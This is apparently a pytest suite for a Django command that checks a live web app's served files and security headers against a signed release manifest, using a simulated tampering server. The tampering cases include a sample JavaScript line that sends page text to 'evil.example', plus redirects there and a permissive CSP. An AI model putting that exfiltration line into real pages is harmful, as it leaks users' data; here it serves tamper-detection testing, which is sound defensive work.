"""`handrail verify-app` against honest and dishonest servers: what differs is told by name, what is not known is not guessed."""

from __future__ import annotations

import json
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command

from handrail.site import published, verify
from handrail.site.published import Published
from handrail.site.verify import Report
from tests.attacks.between import Answer, Between, Change, Front, between
from tools import maker_key
from tools.live import LiveServer

SCRIPT, PAGE, LOADER = "/app/home/app.js", "/app/", "/app/sw.js"
KNOWN = (*verify.OUTSIDE, *verify.DOORS)
BAD = b"fetch('https://evil.example/' + document.body.innerText);"


@pytest.fixture(scope="module")
def middle(server: LiveServer) -> Iterator[tuple[Between, Front]]:
    """The honest server with a dishonest one before it."""
    with between(server) as started:
        yield started


@pytest.fixture(scope="module")
def own() -> Published:
    """What this tree would serve."""
    return published.of_this_install()


def small(own: Published) -> Published:
    """The same release with a few of its files: what is tried many times need not ask for a hundred."""
    few = {path: own.files[path] for path in (PAGE, SCRIPT, LOADER, "/app/texts/es.json")}
    return Published(own.release, own.commit, few, own.headers)


@pytest.fixture
def looked(middle: tuple[Between, Front], own: Published) -> Callable[[Change | None], set[str]]:
    """Every finding about the few files, as `kind path`."""

    def look(change: Change | None) -> set[str]:
        between_them, front = middle
        between_them.change = change
        report = verify.verify(front.app, small(own), 10)
        unknown = re.compile(r"/[0-9a-f]{16}")
        kinds = {f"{one.kind} {unknown.sub('(unknown)', one.path)}" for one in report.findings}
        return {line for line in kinds if not line.startswith("added ")}

    return look


def on(path: str, **with_: Any) -> Change:
    """Changes one path's answer: status, body, or headers beside its own."""

    def change(asked: str, answer: Answer) -> Answer | None:
        if asked != path:
            return None
        headers = {**{name.lower(): value for name, value in answer.headers.items()}, **with_.get("headers", {})}
        headers = {name: value for name, value in headers.items() if value}
        return Answer(with_.get("status", answer.status), headers, with_.get("body", answer.body), with_.get("cut"))

    return change


def in_list(edit: Callable[[dict[str, Any]], None]) -> Change:
    """The server's own list, edited, and named as its rows ask."""

    def change(asked: str, answer: Answer) -> Answer | None:
        if asked != verify.LIST:
            return None
        said = json.loads(answer.body)
        edit(said)
        said["release"] = verify_name(said["files"])
        return Answer(200, answer.headers, json.dumps(said).encode())

    return change


def verify_name(rows: list[Any]) -> str:
    from handrail.site.release import name_of

    return name_of(rows)


DISHONEST: dict[str, tuple[Change, set[str]]] = {
    "one file with other bytes": (on(SCRIPT, body=BAD), {f"changed {SCRIPT}"}),
    "the page itself": (on(PAGE, body=b"<script src=/app/x.js></script>"), {f"changed {PAGE}"}),
    "another loader": (on(LOADER, body=BAD), {f"changed {LOADER}"}),
    "one byte more": (lambda path, a: Answer(200, a.headers, a.body + b" ") if path == SCRIPT else None, {f"changed {SCRIPT}"}),
    "a file that goes on without end": (
        lambda path, a: Answer(200, a.headers, b"", endless=True) if path == SCRIPT else None, {f"changed {SCRIPT}"}
    ),
    "a file that is not there": (on(SCRIPT, status=404, body=b""), {f"missing {SCRIPT}"}),
    "a file that leads elsewhere": (
        on(SCRIPT, status=302, headers={"location": "https://evil.example/x.js"}), {f"moved {SCRIPT}"}
    ),
    "a policy that lets others in": (
        on(PAGE, headers={"content-security-policy": "default-src *"}), {f"header {PAGE}"}
    ),
    "no policy": (on(PAGE, headers={"content-security-policy": ""}), {f"header {PAGE}"}),
    "Help that may run anything": (
        on("/en/help", headers={"content-security-policy": "script-src *"}), {"header /en/help"}
    ),
    "a file that may be a loader too": (on(SCRIPT, headers={"service-worker-allowed": "/"}), {f"header {SCRIPT}"}),
    "a loader for less": (on(LOADER, headers={"service-worker-allowed": ""}), {f"header {LOADER}"}),
    "a page that marks its visitors": (on(PAGE, headers={"set-cookie": "who=7"}), {f"header {PAGE}"}),
    "a page that empties the browser": (on(PAGE, headers={"clear-site-data": '"*"'}), {f"header {PAGE}"}),
    "a script at the first address": (
        on("/", status=200, headers={"location": "", "content-security-policy": ""}, body=b"<script>1</script>"),
        {"door /", "header /"},
    ),
    "a first address that leads elsewhere": (on("/", headers={"location": "https://evil.example/"}), {"door /"}),
    "a way out that stays": (on("/leave", headers={"location": "/app/"}), {"door /leave"}),
    "a way out that marks": (on("/leave", headers={"set-cookie": "who=7"}), {"header /leave"}),
    "a page where there is none": (
        lambda path, a: Answer(200, a.headers, BAD) if path not in KNOWN and not path.startswith("/app/") else None,
        {"door (unknown)"},
    ),
    "a file of another kind": (on(SCRIPT, headers={"x-content-type-options": ""}), {f"header {SCRIPT}"}),
}  # fmt: skip


@pytest.mark.parametrize("why", DISHONEST)
def test_what_differs_is_told_by_name(looked: Callable[[Change | None], set[str]], why: str) -> None:
    change, wanted = DISHONEST[why]
    assert looked(change) == wanted
    assert looked(None) == set(), "the allowed twin"


def run(*words: str) -> tuple[int, str]:
    """The command: its exit code, and everything it said."""
    out = StringIO()
    try:
        call_command("verify_app", *words, stdout=out)
    except CommandError as error:
        return error.returncode, f"{out.getvalue()}{error}"
    except SystemExit as error:
        return int(str(error.code)), out.getvalue()
    return 0, out.getvalue()


def test_an_honest_server_is_the_same_in_every_way(server: LiveServer, own: Published) -> None:
    code, said = run(server.app)
    assert code == 0, said
    assert said.startswith(f"All {len(own.files)} files are the same")
    assert own.release in said
    assert "/app/help.json" in said, "what is outside is named"
    assert run(f"{server.app}/app/?x#p/1")[0] == 0, "only the address before the path matters"


def test_a_list_that_adds_leaves_out_or_changes_is_told(middle: tuple[Between, Front], own: Published) -> None:
    between_them, front = middle

    def edit(said: dict[str, Any]) -> None:
        rows = [row for row in said["files"] if row["path"] != SCRIPT]
        rows[0]["size"] += 1
        said["files"] = [*rows, {"path": "/app/home/more.js", "size": 1, "sha256": "0" * 64}]

    between_them.change = in_list(edit)
    code, said = run(front.app)
    assert code == 1
    for line in ("Added: /app/home/more.js", f"Not listed: {SCRIPT}", "Listed as something else: /app/", own.release):
        assert line in said
    assert "do not trust it" in said


def test_a_file_changed_for_some_browsers_only_is_told_with_who_saw_it(middle: tuple[Between, Front]) -> None:
    between_them, front = middle

    def change(path: str, answer: Answer) -> Answer | None:
        for_her = "iPhone" in {k.lower(): v for k, v in between_them.headers.items()}.get("user-agent", "")
        return Answer(200, answer.headers, BAD) if path == SCRIPT and for_her else None

    between_them.change = change
    code, said = run(front.app)
    assert code == 1
    assert f"Changed: {SCRIPT}" in said
    assert "Seen only as: a phone in Spanish." in said
    assert said.startswith("Differences: 1.")


def test_the_verdict_comes_first_and_a_long_list_is_cut_unless_all_of_it_is_wanted(
    middle: tuple[Between, Front], own: Published, monkeypatch: pytest.MonkeyPatch
) -> None:
    between_them, front = middle
    few = Published(own.release, own.commit, dict(list(own.files.items())[:25]), own.headers)
    monkeypatch.setattr(published, "of_this_install", lambda: few)
    between_them.change = lambda path, answer: Answer(200, answer.headers, BAD) if path in few.files else None
    code, said = run(front.app)
    verdict, basis, *listed = said.splitlines()
    assert (code, verdict[:12], few.release in basis) == (1, "Differences:", True)
    named = [line for line in listed if not line.startswith(("  ", "And ", "Outside", "If that"))]
    assert len(named) == 20
    count = int(re.findall(r"\d+", verdict)[0])
    assert f"And {count - 20} more. To see them all: --all" in listed
    code, said = run(front.app, "--all")
    assert (code, "more. To see" in said, said.count("Changed: ")) == (1, False, 25)


def test_nothing_is_sent_that_tells_who_asks(middle: tuple[Between, Front], own: Published) -> None:
    between_them, front = middle
    sent: list[dict[str, str]] = []

    def change(path: str, answer: Answer) -> Answer | None:
        sent.append({name.lower(): value for name, value in between_them.headers.items()})
        return Answer(200, {**answer.headers, "Set-Cookie": "who=7; Path=/"}, answer.body)

    between_them.change = change
    verify.verify(front.app, small(own), 10)
    assert len(sent) > 10
    assert not any("cookie" in headers or "authorization" in headers for headers in sent)
    assert {headers.get("accept-language", "") for headers in sent} == {"", "en-US,en;q=0.9", "es-MX,es;q=0.9"}


# --- a manifest, signed or not ---


@pytest.fixture
def list_file(tmp_path: Path, own: Published) -> Path:
    path = tmp_path / "handrail.manifest.json"
    path.write_text(json.dumps(published.as_data(own)))
    return path


def test_a_signed_list_is_taken_with_its_key_and_no_other(server: LiveServer, list_file: Path) -> None:
    key, other = maker_key.new_key(), maker_key.new_key()
    arguments = (server.app, "--manifest", str(list_file), "--key", str(key.public))
    code, said = run(*arguments)
    assert (code, "has no signature" in said) == (2, True)
    signature = list_file.with_name(f"{list_file.name}.minisig")
    signature.write_text(maker_key.sign(list_file.read_bytes(), key, "handrail"))
    code, said = run(*arguments)
    assert (code, f"signed by the key {key.public}" in said) == (0, True)
    code, said = run(*arguments[:3], "--key", str(other.public))
    assert (code, "not signed by that key" in said) == (2, True)
    data = list_file.read_text()
    list_file.write_text(data.replace('"size": ', '"size":  '))
    assert run(*arguments)[0] == 2
    code, said = run(*arguments[:3])
    assert (code, "No key was given" in said) == (0, True), "without a key it says what that is worth"


def test_a_key_of_the_shipped_list_is_asked_for_without_being_named(
    server: LiveServer, list_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert published.trusted_keys() == [], "no key exists yet, and none is made up"
    key = maker_key.new_key()
    monkeypatch.setattr(published, "trusted_keys", lambda: [maker_key.new_key().public, key.public])
    assert run(server.app, "--manifest", str(list_file))[0] == 2
    signature = list_file.with_name(f"{list_file.name}.minisig")
    signature.write_text(maker_key.sign(list_file.read_bytes(), key, "handrail"))
    assert run(server.app, "--manifest", str(list_file))[0] == 0


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "null",
        "[]",
        "[" * 100_000,
        '{"release": "0.1.0-000000000000", "files": []}',
        '{"files": {}}',
        "x" * 2_000_000,
    ],
)
def test_what_is_no_list_is_said(server: LiveServer, tmp_path: Path, text: str) -> None:
    path = tmp_path / "list.json"
    path.write_text(text)
    code, said = run(server.app, "--manifest", str(path))
    assert (code, "is no list of a Handrail release" in said) == (2, True)


@pytest.mark.parametrize(
    "edit",
    [
        lambda said: said["files"][0].update(path="/api/v1/people/me"),
        lambda said: said["files"][0].update(path="/app/../x"),
        lambda said: said["files"][0].update(size=-1),
        lambda said: said["files"][0].update(size=True),
        lambda said: said["files"][0].update(sha256="x"),
        lambda said: said["files"].append(said["files"][0]),
        lambda said: said.update(release="0.1.0-000000000000"),
        lambda said: said.update(headers={}),
        lambda said: said.update(headers=[]),
        lambda said: said.pop("commit"),
    ],
)
def test_a_list_with_one_thing_out_of_form_is_no_list(own: Published, edit: Callable[[dict[str, Any]], Any]) -> None:
    said = json.loads(json.dumps(published.as_data(own)))
    assert published.read(json.dumps(said).encode()) == own
    edit(said)
    with pytest.raises(published.NotPublished):
        published.read(json.dumps(said).encode())


def test_what_cannot_be_looked_at_is_said(server: LiveServer, tmp_path: Path) -> None:
    for words, sentence in {
        ("app.localhost",): "Give the app's address",
        ("ftp://app.localhost",): "Give the app's address",
        ("http://user:secret@app.localhost",): "Give the app's address",
        ("http://app.localhost:99999",): "Give the app's address",
        (f"http://app.localhost:{closed_port()}",): "No server answered",
        (server.site,): "There is no list of files",
        (f"https://app.localhost:{server.port}",): "could not show",
        (server.app, "--manifest", str(tmp_path / "none.json")): "cannot be read",
        (server.app, "--manifest", f"http://127.0.0.1:{closed_port()}/x"): "cannot be read",
        (server.app, "--key", "RW"): "give the list too",
        (server.app, "--manifest", str(tmp_path), "--key", "RW"): "no public key",
    }.items():
        code, said = run(*words)
        assert (code, sentence in said) == (2, True), (words, said)


def closed_port() -> int:
    """A port nobody listens on."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.mark.parametrize("cut", [10, 0])
def test_an_answer_that_breaks_off_is_nothing_sure(middle: tuple[Between, Front], cut: int) -> None:
    between_them, front = middle
    between_them.change = on(SCRIPT, cut=cut)
    code, said = run(front.app)
    assert (code, f"No whole answer came for {SCRIPT}" in said, "nothing sure" in said) == (2, True, True)


def test_a_whole_run_has_an_end_and_keeps_what_it_saw(
    middle: tuple[Between, Front], own: Published, monkeypatch: pytest.MonkeyPatch
) -> None:
    between_them, front = middle
    over = threading.Event()

    def change(path: str, answer: Answer) -> Answer | None:
        if path == LOADER:
            over.set()
        return Answer(200, answer.headers, BAD) if path == SCRIPT else None

    between_them.change = change
    real = time.monotonic
    clock = type("Clock", (), {"monotonic": staticmethod(lambda: real() + (1000.0 if over.is_set() else 0.0))})
    monkeypatch.setattr(verify, "time", clock)
    between_them.asked.clear()
    report = verify.verify(front.app, small(own), 10)
    assert "changed" in {one.kind for one in report.differs}
    assert report.silences == verify.MOST_SILENCES + 1
    assert between_them.asked.count(verify.LIST) == 1, "nothing is asked for any more"


def test_a_list_that_hides_later_does_not_take_back_what_was_seen(middle: tuple[Between, Front]) -> None:
    between_them, front = middle

    def change(path: str, answer: Answer) -> Answer | None:
        if path == SCRIPT:
            return Answer(200, answer.headers, BAD)
        hidden = path == verify.LIST and between_them.asked.count(verify.LIST) > 1
        return Answer(404, answer.headers, b"") if hidden else None

    between_them.change = change
    between_them.asked.clear()
    code, said = run(front.app)
    assert (code, f"Changed: {SCRIPT}" in said, f"No whole answer came for {verify.LIST}" in said) == (1, True, True)


def test_a_server_that_falls_silent_is_not_asked_for_every_file(middle: tuple[Between, Front], own: Published) -> None:
    between_them, front = middle
    between_them.change = lambda path, answer: (
        None if path == verify.LIST else Answer(200, answer.headers, b"x" * 9, cut=0)
    )
    between_them.asked.clear()
    report: Report = verify.verify(front.app, own, 10)
    assert report.differs == []
    assert report.silences == verify.MOST_SILENCES + 1
    assert len(between_them.asked) < 10
